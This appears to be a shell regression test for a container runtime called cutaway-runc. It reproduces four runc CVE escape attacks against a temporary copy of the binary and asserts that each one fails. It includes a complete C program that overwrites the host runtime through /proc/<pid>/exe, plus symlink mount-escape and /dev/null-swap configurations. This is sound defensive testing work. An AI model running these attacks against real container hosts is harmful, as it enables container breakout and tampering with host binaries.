#!/bin/bash
# Attacks from runc's CVEs (reference/security-catalogue.md §2, §3 R3 R4
# R5 R8), each attempted for real against cutaway-runc.
#
#   CVE-2024-21626  a host fd leaked into the container gives a host cwd
#   CVE-2019-5736   the container reaches the runtime binary through
#                   /proc/<pid>/exe (or #!/proc/self/exe) and overwrites it
#   CVE-2021-30465  a mount target that is a symlink out of the rootfs
#   CVE-2025-31133  /dev/null swapped before the masked paths are bound
source "$(dirname "$0")/lib/tap.sh"
source "$(dirname "$0")/lib/runc-peers.sh"
need_root
[[ -x $BIN/cutaway-runc ]] || skip_all "bin/cutaway-runc not built"
peers_busybox >/dev/null || skip_all "busybox-static not installed"
tap_tmproot

# The attacks that aim at the runtime binary get a copy of it, so a
# regression damages nothing but $T.
cp "$BIN/cutaway-runc" "$T/runc"
R="$T/runc --root $T/state"
# The container inherits create's stdio: keep it off the pipes of $(...).
create() { $R create "$@" >>"$T/container.out" 2>&1 </dev/null; }
B=$T/bundle
tok=$(rand_token)
peers_bundle "$B" sh
cp "$B/config.json" "$T/config.base.json"
setcfg() { jq "$@" "$T/config.base.json" >"$B/config.json"; }

# --- CVE-2024-21626: cwd through a leaked fd --------------------------------
# Open a few host directories, so a leaked fd would point at the host.
exec 7</sys/fs/cgroup 8</ 9</etc
escaped=""
for n in $(seq 3 20); do
  setcfg --arg c "/proc/self/fd/$n" '.process.cwd = $c | .process.args = ["sh", "-c", "pwd; ls /"]'
  out=$($R run --bundle "$B" "cwd-$n-$tok" 2>/dev/null)
  # Inside the rootfs, `ls /` shows busybox's /bin and no host /usr/lib.
  if [[ $out == *cgroup* || $out == *$'\n'usr$'\n'*lib* ]] || grep -q 'etc\|sys' <<<"${out%%$'\n'*}"; then
    escaped+=" $n"
  fi
done
is "$escaped" "" "cwd /proc/self/fd/N (N=3..20) never lands on a host directory"
setcfg '.process.args = ["sh", "-c", "ls /proc/self/fd | tr \"\\n\" \" \""]'
out=$($R run --bundle "$B" "fds-$tok" 2>&1)
is "$out" "0 1 2 3 " "the container inherits no host fd (only stdio, and ls's own dir fd)"
exec 7<&- 8<&- 9<&-

setcfg '.process.args = ["sleep", "1000"]'
id=exec-$tok
# Cleanup with the pristine binary: the copy is what the attack aims at.
on_exit "$BIN/cutaway-runc --root $T/state delete --force $id"
ok "create a long-running container" create --bundle "$B" "$id"
ok "start it" $R start "$id"
escaped=""
exec 7</sys/fs/cgroup 8</
for n in $(seq 3 12); do
  out=$($R exec --cwd "/proc/self/fd/$n" "$id" pwd 2>/dev/null)
  [[ -n $out && $out != /proc/* && $out != / ]] && escaped+=" $n:$out"
  [[ $out == /sys* ]] && escaped+=" $n:$out"
done
exec 7<&- 8<&-
is "$escaped" "" "exec --cwd /proc/self/fd/N never lands on a host directory"

# --- CVE-2019-5736: overwrite the runtime through /proc/<pid>/exe -----------
# The container's /bin/evil is "#!/proc/self/exe --log=/tmp/fifo": when the
# runtime execs it for `exec`, the kernel runs "the current binary" of the
# process making the execve inside the container.  Were that the runtime,
# --log on a FIFO would hold it there while an attacker keeps an fd of its
# /proc/<pid>/exe, lets it go, and writes through that fd once it has
# exited (ETXTBSY no longer applies).  cutaway-runc makes that last execve
# from its sealed exec stub (exec.c), so "the current binary" is the stub,
# which just fails to run "--log=/tmp/fifo".  With CUTAWAY_RUNC_NO_SEAL=1
# the protection is off and the attack overwrites the runtime copy in $T.
sum_before=$(sha256sum "$T/runc" | cut -d' ' -f1)
cat >"$T/attack.c" <<'EOF'
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>
static int find(char *exe, size_t len, int *pid) {
  DIR *d = opendir("/proc");
  struct dirent *e;
  int fd = -1;
  while (d && fd < 0 && (e = readdir(d))) {
    char p[300], cmd[512] = "";
    snprintf(p, sizeof p, "/proc/%s/cmdline", e->d_name);
    int c = open(p, O_RDONLY);
    if (c < 0) continue;
    ssize_t n = read(c, cmd, sizeof cmd - 1);
    close(c);
    for (ssize_t i = 0; i < n; i++) if (!cmd[i]) cmd[i] = ' ';
    if (n > 0 && strstr(cmd, "--log=/tmp/fifo")) {
      snprintf(p, sizeof p, "/proc/%s/exe", e->d_name);
      fd = open(p, O_PATH);
      ssize_t l = readlink(p, exe, len - 1);
      exe[l > 0 ? l : 0] = '\0';
      *pid = atoi(e->d_name);
    }
  }
  if (d) closedir(d);
  return fd;
}
int main(void) {
  char exe[256] = "";
  int fd = -1, pid = 0;
  for (int i = 0; i < 5000 && fd < 0 && access("/tmp/stop", F_OK) != 0; i++) {
    fd = find(exe, sizeof exe, &pid);
    if (fd < 0) usleep(2000);
  }
  int r = open("/tmp/fifo", O_RDONLY | O_NONBLOCK); /* let it go */
  if (fd < 0) { printf("found=0 wrote=0\n"); return 0; }
  while (kill(pid, 0) == 0) usleep(1000);
  char p[64];
  snprintf(p, sizeof p, "/proc/self/fd/%d", fd);
  int wrote = 0, e = 0;
  for (int i = 0; i < 100 && !wrote; i++) {
    int w = open(p, O_WRONLY);
    if (w >= 0) { wrote = write(w, "PWNED", 5) > 0; e = errno; close(w); } else e = errno;
    if (!wrote) usleep(2000);
  }
  printf("found=1 exe=%s wrote=%d (%s)\n", exe, wrote, wrote ? "" : strerror(e));
  close(r);
  return 0;
}
EOF
if gcc -static -O2 -o "$B/rootfs/bin/attack" "$T/attack.c" 2>"$T/gcc.err"; then
  # The runtime is dynamically linked: give the rootfs its loader and
  # libraries, as any distribution image has them.
  for lib in $(ldd "$T/runc" | grep -o '/[^ ]*'); do
    mkdir -p "$B/rootfs$(dirname "$lib")"
    cp -L "$lib" "$B/rootfs$lib"
  done
  mkfifo "$B/rootfs/tmp/fifo"
  printf '#!/proc/self/exe --log=/tmp/fifo\n' >"$B/rootfs/bin/evil"
  chmod +x "$B/rootfs/bin/evil"
  $R exec --detach "$id" sh -c '/bin/attack > /tmp/attack.out 2>&1' >/dev/null 2>&1 </dev/null
  evil=$($R exec "$id" /bin/evil 2>&1 </dev/null)
  touch "$B/rootfs/tmp/stop"
  for _ in $(seq 200); do [[ -s $B/rootfs/tmp/attack.out ]] && break; sleep 0.05; done
  out=$(cat "$B/rootfs/tmp/attack.out" 2>/dev/null)
  diag "attacker: $out"
  like "$evil" 'execve --log=/tmp/fifo: errno' \
    "#!/proc/self/exe in the container runs the sealed exec stub, not the runtime"
  [[ $out != *"exe=$T/runc"* ]]
  is "$?" "0" "the attacker never holds the host's runtime binary"
  like "$out" 'wrote=0' "no write through /proc/<pid>/exe succeeds"
  is "$(sha256sum "$T/runc" | cut -d' ' -f1)" "$sum_before" "the runtime binary is unchanged"
else
  skip "gcc -static not available to build the attacker: $(head -1 "$T/gcc.err")"
  skip "gcc -static not available"
  skip "gcc -static not available"
fi
"$BIN/cutaway-runc" --root "$T/state" delete --force "$id"

# --- CVE-2021-30465: a mount target that is a symlink out of the rootfs ------
ln -s / "$B/rootfs/escape"
ln -s ../../../../../../../tmp "$B/rootfs/escape-rel"
setcfg --arg d "/escape/cutaway-evil-$tok" \
  '.mounts += [{destination: $d, type: "tmpfs", source: "tmpfs"}]
   | .process.args = ["sh", "-c", "grep -c cutaway-evil /proc/self/mounts"]'
out=$($R run --bundle "$B" "sym-$tok" 2>&1)
ok "a mount through a symlink to / does not reach the host" test ! -e "/cutaway-evil-$tok"
if [[ -d $B/rootfs/cutaway-evil-$tok ]]; then
  pass "it landed inside the rootfs instead ($out)"
else
  like "$out" 'escape|symlink|outside' "or it was refused with a clear error: $out"
fi
rmdir "$B/rootfs/cutaway-evil-$tok" 2>/dev/null
setcfg --arg d "/escape-rel/cutaway-evil-$tok" \
  '.mounts += [{destination: $d, type: "tmpfs", source: "tmpfs"}]'
$R run --bundle "$B" "symrel-$tok" >/dev/null 2>&1
ok "a relative symlink climbing out does not reach the host" test ! -e "/tmp/cutaway-evil-$tok"
rmdir "$B/rootfs/tmp/cutaway-evil-$tok" 2>/dev/null

# --- CVE-2025-31133: /dev/null replaced before masking ------------------------
# A bind mount over /dev/null of a file of ours: if masking trusted the
# path, /proc/kcore would show our file.
echo "secret-$tok" >"$T/notnull"
setcfg --arg s "$T/notnull" \
  '.mounts += [{destination: "/dev/null", type: "bind", source: $s, options: ["bind"]}]
   | .linux.maskedPaths = ["/proc/kcore"]
   | .process.args = ["sh", "-c", "cat /proc/kcore 2>&1 | head -c 100"]'
out=$($R run --bundle "$B" "null-$tok" 2>&1)
[[ $out != *secret-$tok* ]]
is "$?" "0" "a swapped /dev/null is never used to mask a path ($out)"
ok "and nothing is left behind" bash -c "! $R state null-$tok"

done_testing
